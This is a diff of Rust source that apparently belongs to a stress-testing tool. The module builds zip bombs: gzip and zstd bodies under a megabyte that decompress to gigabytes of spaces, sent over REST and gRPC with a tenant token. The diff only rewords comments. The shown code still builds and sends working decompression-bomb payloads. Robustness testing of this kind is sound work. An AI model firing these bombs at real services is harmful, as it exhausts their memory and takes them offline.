@@ -1,6 +1,7 @@
-//! Zip bombs: bodies of about a megabyte and less that decompress to gigabytes of one byte, over REST in
-//! gzip and zstd and over gRPC as a compressed message. With a token of some tenant's, since what a
-//! stranger sends is refused before it is decompressed, or with the first four kilobytes of it.
+//! Zip bombs: bodies of about a megabyte and less that decompress to gigabytes of one byte, over
+//! REST in gzip and zstd and over gRPC as a compressed message. They are sent with the token of a
+//! tenant, since a request without one is rejected before its body is decompressed, or after the
+//! first four kilobytes of it.
 
 use std::io::{self, Write};
 use std::sync::Arc;
@@ -17,18 +18,18 @@ use super::huge_headers::count_frames;
 use super::{AttackArgs, Attacker, count_statuses, storm};
 use crate::Outcome;
 
-/// How much a gzip bomb holds: as much as fits into a body of less than a mebibyte, in bytes.
+/// Decompressed size of a gzip bomb, in bytes: the maximum for a body of less than a mebibyte.
 const GZIP_BYTES: usize = 960 * 1024 * 1024;
-/// How much the bombs over gRPC hold: as much as fits into HTTP/2's first window, in bytes.
+/// Decompressed size of the bombs over gRPC, in bytes: the maximum for HTTP/2's first window.
 const SMALL_GZIP_BYTES: usize = 48 * 1024 * 1024;
 const SMALL_ZSTD_BYTES: usize = 1800 * 1024 * 1024;
-/// What a gzip bomb repeats, in bytes.
+/// Repeated part of a gzip bomb, in bytes.
 const PART_BYTES: usize = 16 * 1024 * 1024;
-/// How much a zstd bomb holds, in bytes.
+/// Decompressed size of a zstd bomb, in bytes.
 const ZSTD_BYTES: usize = 8 * 1024 * 1024 * 1024;
-/// The largest zstd block, in bytes.
+/// Maximum size of a zstd block, in bytes.
 const ZSTD_BLOCK_BYTES: usize = 128 * 1024;
-/// What the bombs hold: in JSON, nothing but this may be without end.
+/// Content of the bombs: JSON allows unlimited white space.
 const FILL: u8 = b' ';
 
 #[derive(Debug, clap::Args)]
@@ -40,7 +41,7 @@ pub(crate) struct ZipBombArgs {
     token: String,
 }
 
-/// The bombs, made once.
+/// Bombs, created once.
 struct Bombs {
     gzip: Vec<u8>,
     zstd: Vec<u8>,
@@ -101,7 +102,7 @@ async fn over_rest(
         attacker.send(&mut writing, head.as_bytes()).await?;
         attacker.send(&mut writing, body).await?;
         attacker.sent(1);
-        // The answer ends the connection.
+        // The response ends the connection.
         std::future::pending::<io::Result<()>>().await
     };
     tokio::select! {
@@ -147,14 +148,14 @@ async fn over_grpc(
     }
 }
 
-/// A gzip file of one member (RFC 1952).
+/// Returns a gzip file of one member (RFC 1952).
 fn gzip(bytes: usize) -> io::Result<Vec<u8>> {
     let part = vec![FILL; PART_BYTES];
     let mut of_part = crc32fast::Hasher::new();
     of_part.update(&part);
     let mut checksum = crc32fast::Hasher::new();
-    // The first part, flushed to a whole byte; each part after it is coded alike, so that the work is
-    // done twice at most.
+    // The first part, flushed to a whole byte; each further part has the same encoding, so the
+    // compression runs at most twice.
     let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
     encoder.write_all(&part)?;
     encoder.flush()?;
@@ -177,10 +178,11 @@ fn gzip(bytes: usize) -> io::Result<Vec<u8>> {
     Ok(out)
 }
 
-/// A zstd frame of blocks that each repeat one byte (RFC 8878): four bytes for each 128 KiB.
+/// Returns a zstd frame of blocks that each repeat one byte (RFC 8878): four bytes for each 128
+/// KiB.
 fn zstd(bytes: usize) -> Vec<u8> {
     const REPEATED: u32 = 1;
-    // A window of 128 KiB, and neither length nor checksum.
+    // A window of 128 KiB, without length and checksum.
     let mut out = vec![0x28, 0xb5, 0x2f, 0xfd, 0, 7 << 3];
     let blocks = bytes / ZSTD_BLOCK_BYTES;
     let size = u32::try_from(ZSTD_BLOCK_BYTES).unwrap_or_default();
